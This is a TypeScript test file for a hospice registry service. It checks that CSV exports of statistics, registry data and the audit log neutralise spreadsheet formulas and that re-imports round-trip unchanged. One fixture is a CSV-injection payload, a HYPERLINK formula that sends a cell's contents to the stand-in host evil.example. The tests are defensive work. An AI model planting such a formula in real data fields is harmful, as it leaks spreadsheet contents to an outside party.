import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import {
  auditToCsv,
  exportHospices,
  importHospiceCsv,
  toHospiceCsv,
  type Store,
} from '@palliamonitor/data';
import { openTestStore, storeName } from '../../data/test/test-store';
import { buildApp } from '../src/app';
import type { App } from '../src/context';
import { asAdmin } from './auth-helpers';

// A hospice whose name and place are spreadsheet formulas comes out of every CSV as text: the
// public figures by hospice, the audit log and the registry export. Re-importing the export gives
// the same registry back.

const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"x")';
const PLACE = '+SUM(1+1)';
const PHONE = '+31 30 123 4567';
const clock = new Date('2026-03-01T10:00:00Z');
let store: Store;
let app: App;
let hospiceId: string;

beforeAll(async () => {
  store = await openTestStore();
  app = await asAdmin(await buildApp(store, { now: () => clock }), store);
  const res = await app.inject({
    method: 'POST',
    url: '/api/v1/hospices',
    payload: {
      name: NAME,
      place: PLACE,
      gemeenteCode: 'GM0344',
      type: 'bth',
      licensedBeds: 4,
      phone: PHONE,
      openedOn: '2020-01-01',
    },
  });
  expect(res.statusCode, res.body).toBe(201);
  hospiceId = res.json().id;
});
afterAll(async () => {
  await app.close();
  await store.close();
});

/** Every cell of a CSV, header included. */
function cells(text: string): string[] {
  return (parse(text, { relax_column_count: true }) as string[][]).flat();
}

function formulaCells(text: string): string[] {
  return cells(text).filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

describe(`CSV cells never start a formula (${storeName})`, () => {
  it('public figures by hospice: the name is text', async () => {
    const res = await app.inject('/api/v1/regions/ZK23/statistics?format=csv&byHospice=true');
    expect(res.statusCode).toBe(200);
    expect(formulaCells(res.body)).toEqual([]);
    expect(cells(res.body)).toContain(`'${NAME}`);
  });

  it('the registry export: name, place and phone are text, numbers stay numbers', async () => {
    const csv = toHospiceCsv(await exportHospices(store.db, '2026-03-01'));
    expect(formulaCells(csv)).toEqual([]);
    const [header, ...rows] = parse(csv) as string[][];
    const row = rows.find((r) => r[header!.indexOf('ref')] === hospiceId)!;
    const value = (column: string) => row[header!.indexOf(column)];
    expect([value('name'), value('place'), value('phone')]).toEqual([
      `'${NAME}`,
      `'${PLACE}`,
      `'${PHONE}`,
    ]);
    expect(value('licensed_beds')).toBe('4');
  });

  it('re-importing the export changes nothing, and a fresh store gets the same names', async () => {
    const csv = toHospiceCsv(await exportHospices(store.db, '2026-03-01'));
    const again = await importHospiceCsv(store.db, csv, { actor: 'test', now: clock });
    expect(again.updated).toBe(0);
    const now = (await app.inject(`/api/v1/hospices/${hospiceId}`)).json();
    expect([now.name, now.place, now.phone]).toEqual([NAME, PLACE, PHONE]);

    const fresh = await openTestStore();
    try {
      await importHospiceCsv(fresh.db, csv, { actor: 'test', now: clock });
      const copy = await exportHospices(fresh.db, '2026-03-01');
      const imported = copy.find((h) => h.ref === hospiceId)!;
      expect([imported.name, imported.place, imported.phone]).toEqual([NAME, PLACE, PHONE]);
    } finally {
      await fresh.close();
    }
  });

  it('the audit log: no cell starts a formula, whatever an entry holds', async () => {
    const res = await app.inject('/api/v1/audit-log?format=csv');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('HYPERLINK');
    expect(formulaCells(res.body)).toEqual([]);
    // Fields that are never formulas today (actor, path) are neutralised by the same writer.
    const csv = auditToCsv([
      {
        at: clock.toISOString(),
        actor: '@evil',
        role: '-role',
        method: 'PATCH',
        path: '=path',
        status: 200,
        hospiceId: '+id',
        regionCode: null,
        before: null,
        after: null,
      },
    ]);
    expect(formulaCells(csv)).toEqual([]);
    expect(cells(csv)).toEqual(expect.arrayContaining(["'@evil", "'-role", "'=path", "'+id"]));
  });
});
